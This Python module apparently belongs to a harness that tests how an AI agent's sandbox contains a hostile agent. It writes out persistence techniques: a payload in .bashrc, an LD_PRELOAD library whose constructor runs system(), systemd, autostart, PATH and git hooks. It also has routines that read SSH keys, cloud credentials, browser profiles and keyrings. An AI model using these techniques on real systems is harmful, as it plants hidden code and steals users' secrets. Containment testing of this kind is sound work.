"""Ways of the hostile agent by files: what others run or read later, keys and credentials."""

import json
import os

from attack_tools import FACTS, FILES, MARKS, OUT, WAYS, payload, read, run, tell, way, write, write_to


# What others run or read later.

@way
def shell_startup():
    write(os.path.join(FACTS["user_home"], ".bashrc"), payload("shell_startup") + "\n")


@way
def ld_preload():
    library = os.path.join(OUT, "preload.so")
    code = os.path.join(OUT, "preload.c")
    command = json.dumps(payload("ld_preload"))
    write_to(code, f'#include <stdlib.h>\n__attribute__((constructor)) static void run(void) {{ unsetenv("LD_PRELOAD"); system({command}); }}\n')
    run("cc", "-shared", "-fPIC", "-o", library, code)
    write(os.path.join(FACTS["user_home"], ".profile"), f"export LD_PRELOAD={library}\n")


@way
def user_unit():
    write(FILES["user_unit"], f"[Service]\nExecStart=/bin/echo {MARKS['user_unit']}\n")


@way
def autostart():
    write(FILES["autostart"], f"[Desktop Entry]\nExec=/bin/echo {MARKS['autostart']}\n")


@way
def path_program():
    write(FILES["path_program"], f"#!/bin/sh\necho {MARKS['path_program']}\n", 0o755)


@way
def git_global_config():
    write(FILES["git_global_config"], f"[alias]\n\tst = !echo {MARKS['git_global_config']}\n")


@way
def git_hooks():
    hook = os.path.join(FACTS["repository"], ".git/hooks/post-checkout")
    write(hook, f"#!/bin/sh\n: {MARKS['git_hooks']}\n", 0o755)


@way
def git_config():
    write(os.path.join(FACTS["repository"], ".git/config"), f"[alias]\n\thostile = {MARKS['git_config']}\n")


@way
def other_project():
    write(os.path.join(FACTS["world"], "other-project/README"), MARKS["other_project"])


@way
def shared_temporary():
    write_to("/tmp/hostile-" + MARKS["shared_temporary"], "")


def read_credential(name):
    tell(name, read(FILES[name]))


for name in ("ssh_key", "gnupg_key", "aws_credentials", "gcloud_credentials", "kube_config", "docker_config", "netrc",
             "git_credentials", "npmrc", "browser_profile", "desktop_keyring"):
    WAYS[name] = lambda name=name: read_credential(name)
